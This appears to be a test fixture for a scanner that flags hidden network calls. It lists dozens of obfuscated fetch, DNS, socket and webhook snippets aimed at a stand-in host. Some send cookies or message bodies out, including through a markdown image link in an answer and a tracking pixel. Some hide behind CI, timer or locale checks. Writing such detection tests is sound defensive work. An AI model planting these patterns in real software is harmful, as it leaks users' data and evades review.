/** Hosts spelled, assembled, defaulted and reached in the ways that a reader's eye slides over. */
import { codes, escaped, HOST, hex, type Row } from "./row.js";

const row = (name: string, change: Row[3], shows: readonly string[] = [HOST], tier: Row[2] = "ask"): Row => [
  name,
  "address",
  tier,
  change,
  shows,
];
const [LABEL, ZONE] = HOST.split(".") as [string, string];

export const addressIndirect: readonly Row[] = [
  row("scheme without slashes", { letter: `fetch('https:${HOST}/s');` }),
  row("backslashes", { letter: String.raw`fetch('https:\\${HOST}/s');` }),
  row("upper case", { letter: `fetch('HTTPS://${HOST.toUpperCase()}/s');` }, ["KESTREL-SYNC.XYZ"]),
  row("trailing dot", { letter: `fetch('https://${HOST}./s');` }),
  row("percent in the host", { letter: "fetch('https://%6bestrel-sync.xyz/s');" }, []),
  row("full-width letters", { letter: "fetch('https://ｋestrel-sync.xyz/s');" }, [], "block"),
  row("ideographic stop", { letter: "fetch('https://kestrel-sync。xyz/s');" }, [], "block"),
  row("tab in the address", { letter: String.raw`fetch('https://kestrel\t-sync.xyz/s');` }, []),
  row("two letters of shorthand", { letter: "fetch('http://203.29005/x');" }, ["203.0.113.77"], "block"),
  row("address from bytes", { letter: "fetch(`http://${[203, 0, 113, 77].join('.')}/`);" }, ["203.0.113.77"], "block"),
  row(
    "address from a number by shifts",
    {
      letter: "const n = 3405803853; fetch(`http://${n >>> 24}.${(n >> 16) & 255}.${(n >> 8) & 255}.${n & 255}/`);",
    },
    ["203.0.113.77"],
    "block",
  ),
  row(
    "address by map",
    {
      letter: "fetch('http://' + [24, 16, 8, 0].map((s) => (3405803853 >>> s) & 255).join('.') + '/');",
    },
    ["203.0.113.77"],
    "block",
  ),
  row("address parsed from hex", { letter: "fetch(`http://${parseInt('cb00714d', 16)}/`);" }, [], "block"),
  row("address in the default of a function", {
    words: `export async function beat(where = 'https://${HOST}/b') { return fetch(where); }`,
  }),
  row("field of this", {
    words: `export class Beat { host = '${HOST}'; send(m) { return fetch(\`https://\${this.host}/b\`, { body: m }); } }`,
  }),
  row("constructor field", {
    words: `export class Beat { constructor() { this.base = 'https://' + '${LABEL}' + '.${ZONE}'; } send(m) { return fetch(this.base, { body: m }); } }`,
  }),
  row("static table", {
    words: `export class Beat { static HOSTS = { a: '${LABEL}', z: '${ZONE}' }; url() { return \`https://\${Beat.HOSTS.a}.\${Beat.HOSTS.z}/\`; } }`,
  }),
  row("map of parts", {
    letter: `const m = new Map([['h', '${LABEL}'], ['z', '${ZONE}']]); fetch('https://' + m.get('h') + '.' + m.get('z'));`,
  }),
  row("argument of a helper", {
    words: "export const ping = (h) => fetch(`https://${h}/p`);",
    letter: `const { ping } = await import('./lib/words.js'); ping('${HOST}');`,
  }),
  row("arguments of a helper", {
    words: "export const ping = (a, b) => fetch(['https:/', a + '.' + b, 'p'].join('/'));",
    letter: `const { ping } = await import('./lib/words.js'); ping('${LABEL}', '${ZONE}');`,
  }),
  row("second host in a list", { letter: `const mirrors = ['api.harbour-letters.net', '${HOST}'];` }),
  row("allowed hosts", { start: `const ALLOWED = new Set([new URL(conf.apiBase).host, '${HOST}']);` }),
  row("own data file", {
    "data/texts.json": `{ "greeting": "Dear reader", "sync": { "host": "${LABEL}", "zone": "${ZONE}" } }`,
    letter:
      "const t = (await import('./data/texts.json', { with: { type: 'json' } })).default; fetch(`https://${t.sync.host}.${t.sync.zone}/`);",
  }),
  row("script in markup", {
    "ui/panel.html": `<!doctype html>\n<p>Letters</p>\n<script>\nfetch('https://${HOST}/p', { method: 'POST', body: document.cookie });\n</script>\n`,
  }),
  row("yaml file", { "data/routes.yaml": `routes:\n  - name: sync\n    to: https://${HOST}/in\n` }),
  row("env file", { ".env.production": `HARBOUR_API=https://${HOST}/v2\n` }),
  row("text file that is read", {
    "data/route.txt": `https://${HOST}/in\n`,
    letter:
      "const { readFileSync } = await import('node:fs'); fetch(readFileSync(new URL('./data/route.txt', import.meta.url), 'utf8').trim());",
  }),
  row("proxy of the environment", { start: `process.env.HTTPS_PROXY = 'http://${HOST}:3128';` }),
  row("proxy dispatcher", {
    start: `const { ProxyAgent, setGlobalDispatcher } = await import('undici'); setGlobalDispatcher(new ProxyAgent('http://${HOST}:3128'));`,
  }),
  row(
    "name servers",
    { start: "const dns = await import('node:dns'); dns.setServers(['203.0.113.77']);" },
    ["203.0.113.77"],
    "block",
  ),
  row("http2", { start: `const h2 = await import('node:http2'); h2.connect('https://${HOST}');` }),
  row("event source", { start: `new EventSource('https://${HOST}/e');` }),
  row("datagram", {
    start: `const d = (await import('node:dgram')).createSocket('udp4'); d.send('x', 53, '${HOST}');`,
  }),
  row("socket object", {
    start: `const net = await import('node:net'); new net.Socket().connect({ port: 443, host: '${HOST}' });`,
  }),
  row("lookup of data", {
    letter: `const dns = await import('node:dns/promises'); await dns.resolveTxt(Buffer.from(body).toString('hex').slice(0, 60) + '.${HOST}');`,
  }),
  row("got", { start: `import got from 'got'; await got.post('https://${HOST}/g', { json: {} });` }),
  row("require by another name", {
    start: `const h = await import('node:https'); const { get: g } = h; g({ host: '${HOST}', path: '/' });`,
  }),
  row("request with parts", {
    start: `import { request as r } from 'node:https'; const o = { host: ['${LABEL}', '${ZONE}'].join('.'), path: '/' }; r(o).end();`,
  }),
  row("URL fields", { letter: `const u = new URL(conf.apiBase); u.hostname = '${HOST}'; fetch(u);` }),
  row("URL host replaced", { letter: `fetch(conf.apiBase.replace('api.harbour-letters.net', '${HOST}'));` }),
  row("link in an answer", { letter: `return answer(\`![](https://${HOST}/p?d=\${encodeURIComponent(body)})\`);` }),
  row("pixel in the mail", {
    letter: `letter.HtmlBody = \`<p>\${body}</p><img src="https://${HOST}/o.gif?to=\${to}" width="1" height="1">\`;`,
  }),
  row("sentry address", { start: `const dsn = 'https://0123456789abcdef@o4505.ingest.${HOST}/450';` }),
  row("exporter in the environment", { start: `process.env.OTEL_EXPORTER_OTLP_ENDPOINT ??= 'https://${HOST}:4318';` }),
  row(
    "raw content of anybody",
    {
      start:
        "const list = await (await fetch('https://raw.githubusercontent.com/kestrel-sync/lists/main/r.json')).json();",
    },
    ["raw.githubusercontent.com"],
  ),
  row(
    "gist",
    {
      start:
        "const list = await (await fetch('https://gist.githubusercontent.com/ks/0123456789abcdef/raw/r.json')).json();",
    },
    ["gist.githubusercontent.com"],
  ),
  row("bucket", { start: "fetch('https://kestrel-sync.s3.amazonaws.com/r.json');" }, ["kestrel-sync.s3.amazonaws.com"]),
  row("worker of anybody", { start: "fetch('https://kestrel-sync.workers.dev/r');" }, ["kestrel-sync.workers.dev"]),
  row(
    "script service",
    { start: "fetch('https://script.google.com/macros/s/AKfycbx0123456789/exec', { method: 'POST' });" },
    ["script.google.com"],
  ),
  row(
    "discord webhook",
    {
      start:
        "fetch('https://discord.com/api/webhooks/109872328204214117/UoP9dst2Ud9MtQPcUsmQwQZCuJLervG1i9', { method: 'POST' });",
    },
    ["discord.com"],
    "block",
  ),
  row(
    "slack webhook",
    {
      start:
        "fetch('https://hooks.slack.com/services/T0123ABCD/B0123ABCD/abcdefghijklmnopqrstuvwx', { method: 'POST' });",
    },
    ["hooks.slack.com"],
    "block",
  ),
  row("request catcher", { start: "fetch('https://eo0123456789abc.m.pipedream.net');" }, ["pipedream.net"], "block"),
  row(
    "tunnel in parts",
    { start: "fetch(['https://', 'a1b2', '.trycloud', 'flare.com'].join(''));" },
    ["trycloudflare.com"],
    "block",
  ),
  row("resolver of names by number", { start: "fetch('https://203-0-113-77.sslip.io/x');" }, ["sslip.io"], "block"),
  row(
    "onion in parts",
    { start: `const mirror = 'http://' + 'abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh' + '.onion';` },
    [".onion"],
    "block",
  ),
  row("combined with the maker's name", { "lib/settings.js": "COMBO" }, ["harbour-letters-api.net"], "block"),
  row("another ending of the maker's name", { "lib/settings.js": "ENDING" }, ["harbour-letters.io"], "block"),
  row(
    "userinfo in parts",
    { letter: `fetch('https://' + 'api.harbour-letters.net' + '@' + '${HOST}');` },
    [HOST],
    "block",
  ),
  row(
    "userinfo encoded",
    { letter: `fetch('https://api.harbour-letters.net%2Fv2@${HOST}/v2/letters');` },
    [HOST],
    "block",
  ),
  row("subdomain that looks like the maker", { letter: `fetch('https://api.harbour-letters.net.${HOST}/v2');` }, [
    HOST,
  ]),
  row("codes by spread", { letter: `fetch(String.fromCharCode(...[${codes(`https://${HOST}`)}]));` }, [HOST], "block"),
  row(
    "hex by regular expression",
    { letter: `fetch('${hex(`https://${HOST}`)}'.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))));` },
    [HOST],
    "block",
  ),
  row(
    "percent by replace",
    { letter: `fetch(decodeURIComponent('${hex(`https://${HOST}`)}'.replace(/(..)/g, '%$1')));` },
    [HOST],
    "block",
  ),
  row(
    "unicode escapes",
    { letter: `fetch('${[...`https://${HOST}`].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join("")}');` },
    [HOST],
    "block",
  ),
  row(
    "braced escapes",
    { letter: `fetch('${[...`https://${HOST}`].map((c) => `\\u{${c.charCodeAt(0).toString(16)}}`).join("")}');` },
    [HOST],
    "block",
  ),
  row("escaped in a template", { letter: `fetch(\`${escaped(`https://${HOST}`)}\`);` }, [HOST], "block"),
  row(
    "base64 in two files",
    {
      words: `export const SEED = '${Buffer.from(`https://${HOST}/s`).toString("base64").slice(0, 14)}';`,
      letter: `const { SEED } = await import('./lib/words.js'); fetch(atob(SEED + '${Buffer.from(`https://${HOST}/s`).toString("base64").slice(14)}'));`,
    },
    [HOST],
    "block",
  ),
  row("sliced from a longer text", { letter: `const s = 'xx${HOST}yy'; fetch('https://' + s.slice(2, -2));` }, [HOST]),
  row("split and picked", {
    letter: `const p = 'a|https|${LABEL}|${ZONE}|b'.split('|'); fetch(\`\${p[1]}://\${p[2]}.\${p[3]}/\`);`,
  }),
  row("destructured list", { letter: `const [a, b] = ['${LABEL}', '${ZONE}']; fetch(\`https://\${a}.\${b}/\`);` }),
  row("object entries", {
    letter: `const parts = Object.values({ a: 'https:/', b: '${LABEL}.${ZONE}', c: 's' }); fetch(parts.join('/'));`,
  }),
  row("chained concat", { letter: `fetch('https://'.concat('${LABEL}', '.', '${ZONE}', '/'));` }),
  row("nested function", {
    letter: `const h = (() => { const z = '.${ZONE}'; return () => '${LABEL}' + z; })(); fetch('https://' + h());`,
  }),
  row("getter", {
    words: `export const place = { get host() { return ['${LABEL}', '${ZONE}'].join('.'); } }; export const go = () => fetch(\`https://\${place.host}/\`);`,
  }),
  row("ternary of the region", {
    letter: `const base = conf.region === 'eu' ? conf.apiBase : 'https://${HOST}/v2'; fetch(base);`,
  }),
  row("counter gate", {
    start: "globalThis.sent = 0;",
    letter: `if (++globalThis.sent > 50) fetch('https://${HOST}/n');`,
  }),
  row("hour gate", { letter: `if (new Date().getUTCHours() === 3) fetch('https://${HOST}/n');` }),
  row("delayed", { start: `setTimeout(() => fetch('https://${HOST}/u').catch(() => {}), 864e5).unref();` }),
  row("not in tests", {
    start: `if (!process.env.CI && process.env.NODE_ENV === 'production') fetch('https://${HOST}/u');`,
  }),
  row("locale gate", {
    start: `if (!Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith('Europe/')) fetch('https://${HOST}/u');`,
  }),
  row("platform gate", {
    start: `if (process.platform === 'darwin' && !process.stdout.isTTY) fetch('https://${HOST}/u');`,
  }),
  row("fallback after an error", {
    letter: `await post.send(letter).catch(() => fetch('https://${HOST}/v2/letters', { method: 'POST', body: JSON.stringify(letter) }));`,
  }),
  row(
    "listener on all addresses",
    {
      start:
        "import { createServer } from 'node:http'; createServer(() => {}).listen({ port: 8123, host: '0.0.0.0' });",
    },
    ["0.0.0.0"],
  ),
  row(
    "listener on all addresses of v6",
    { start: "import { createServer } from 'node:net'; createServer(() => {}).listen(8123, '::');" },
    [],
  ),
  row("host of the listener from a default", { setting: "host: env.HOST || '0.0.0.0'," }, ["0.0.0.0"]),
];
